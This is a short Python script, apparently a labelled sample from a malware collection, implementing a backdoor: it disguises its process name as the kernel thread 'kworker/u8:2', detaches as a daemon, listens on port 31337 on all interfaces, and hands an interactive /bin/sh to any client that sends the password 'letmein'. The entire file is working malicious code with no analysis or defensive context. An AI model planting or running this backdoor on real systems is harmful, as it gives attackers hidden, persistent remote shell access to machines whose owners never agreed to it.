# class: backdoor, bind shell as a daemon; style: hides its name
import os, socket, subprocess, ctypes
ctypes.CDLL(None).prctl(15, b"kworker/u8:2", 0, 0, 0)
if os.fork(): os._exit(0)
os.setsid()
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 31337))
s.listen(2)
while True:
    c, _ = s.accept()
    if c.recv(64).strip() != b"letmein":
        c.close(); continue
    subprocess.Popen(["/bin/sh", "-i"], stdin=c, stdout=c, stderr=c)
